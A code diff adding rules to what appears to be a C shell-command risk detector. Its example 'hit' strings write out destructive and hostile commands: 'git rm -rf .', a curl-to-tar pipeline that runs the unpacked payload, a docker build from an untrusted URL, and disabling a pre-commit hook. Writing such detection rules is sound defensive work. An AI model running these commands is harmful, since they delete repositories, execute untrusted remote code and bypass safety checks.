@@ -274,6 +274,46 @@ static bool fetch_jj(const struct shell_model *m, const struct shell_command *c)
 		rule_is("abandon restore", rule_operand(c, 1)));
 }
 
+/* git rm -rf .: all that is tracked; --cached leaves the files alone */
+static bool fetch_all(const struct shell_model *m, const struct shell_command *c)
+{
+	(void)m;
+	for (size_t i = 2; i < c->n; i++)
+		if (rule_is(". ./ * :/", c->argv[i].s))
+			return true;
+	return false;
+}
+
+/* curl … | tar x && ./x/run */
+static bool fetch_unpacked(const struct shell_model *m, const struct shell_command *c)
+{
+	if (!(c->in.taint & TAINT_REMOTE))
+		return false;
+	for (const struct shell_command *d = m->commands; d < c; d++)
+		for (size_t i = 0; i < d->n_hosts; i++)
+			if (fetch_is_forge(d->hosts[i].name))
+				return false;
+	for (const struct shell_command *d = c + 1; d < m->commands + m->n; d++)
+		if (d->n > 0 && str_starts(d->argv[0].s, "./"))
+			return true;
+	return false;
+}
+
+static bool fetch_context(const struct shell_model *m, const struct shell_command *c)
+{
+	(void)m;
+	return c->argv[c->n - 1].s[0] != '-' && !strchr(c->argv[c->n - 1].s, '=') &&
+	       fetch_is_shady(c->argv[c->n - 1].s);
+}
+
+static bool fetch_hook_off(const struct shell_model *m, const struct shell_command *c)
+{
+	const char *mode = c->n > 1 ? c->argv[1].s : "";
+
+	return (rule_operands(m, c) & PLACE(GIT_HOOK)) &&
+	       (rule_is("-x a-x u-x 000 0000 644 0644 600", mode));
+}
+
 /* ---- sandboxes and engines that are opened ---- */
 
 static bool fetch_opened(const struct shell_model *m, const struct shell_command *c)
@@ -288,6 +328,8 @@ static bool fetch_opened(const struct shell_model *m, const struct shell_command
 	if (rule_is("kubectl oc", c->name))
 		return rule_says(c, "hostPath") || rule_says(c, "hostNetwork") ||
 		       rule_says(c, "hostIPC") || rule_says(c, "allowPrivilegeEscalation\":true");
+	if (strcmp(c->name, "fuse-overlayfs") == 0)
+		return rule_says(c, "lowerdir=/,");
 	for (size_t i = 1; i < c->n; i++) {
 		const char *s = c->argv[i].s;
 		const char *next = i + 1 < c->n ? c->argv[i + 1].s : "";
@@ -463,6 +505,39 @@ static const struct shell_rule fetch_rows[] = {
 	 .flags = "--root",
 	 .hit = "git rebase -i --root",
 	 .miss = "git rebase -i HEAD~3"},
+	{.id = "CMD-GIT-RM-ALL",
+	 .reason = "It deletes every file of a repository.",
+	 ROW(0.4, LOW),
+	 .programs = "git",
+	 .words = "rm",
+	 .flags = "-r",
+	 .unless = "--cached|-n|--dry-run",
+	 .test = fetch_all,
+	 .hit = "git rm -rf .",
+	 .miss = "git rm -r --cached ."},
+	{.id = "CMD-UNPACK-RUN",
+	 .reason = "It unpacks something from the network and runs it.",
+	 ROW(0.5, MEDIUM),
+	 .programs = "tar bsdtar gtar cpio unzip",
+	 .test = fetch_unpacked,
+	 .hit = "curl http://a.example/x.tar | tar x && ./x/run",
+	 .miss = "curl http://a.example/x.tar | tar x && ls x"},
+	{.id = "CMD-BUILD-SHADY",
+	 .reason =
+		 "It builds an image of files from an address at which nobody can tell who answers.",
+	 ROW(0.4, LOW),
+	 .programs = "docker podman nerdctl buildah",
+	 .words = "build|bud",
+	 .test = fetch_context,
+	 .hit = "docker build http://a.example/x.tar.gz",
+	 .miss = "docker build https://github.com/a/x.git"},
+	{.id = "CMD-HOOK-OFF",
+	 .reason = "It switches off a check that runs before a commit.",
+	 ROW(0.4, LOW),
+	 .programs = "chmod",
+	 .test = fetch_hook_off,
+	 .hit = "chmod -x .git/hooks/pre-commit",
+	 .miss = "chmod +x .git/hooks/pre-commit"},
 	{.id = "CMD-GIT-REPLACE",
 	 .reason = "It puts other objects in the place of those of a history.",
 	 ROW(0.4, LOW),
@@ -513,7 +588,7 @@ static const struct shell_rule fetch_rows[] = {
 	{.id = "CMD-SANDBOX-OPEN",
 	 .reason = "It starts a container or a sandbox that has the whole machine in it.",
 	 ROW(0.5, MEDIUM),
-	 .programs = "lxc incus kubectl oc systemd-nspawn bwrap",
+	 .programs = "lxc incus kubectl oc systemd-nspawn bwrap fuse-overlayfs",
 	 .test = fetch_opened,
 	 .hit = "systemd-nspawn -D / --bind=/:/host",
 	 .miss = "systemd-nspawn -D /srv/root"},
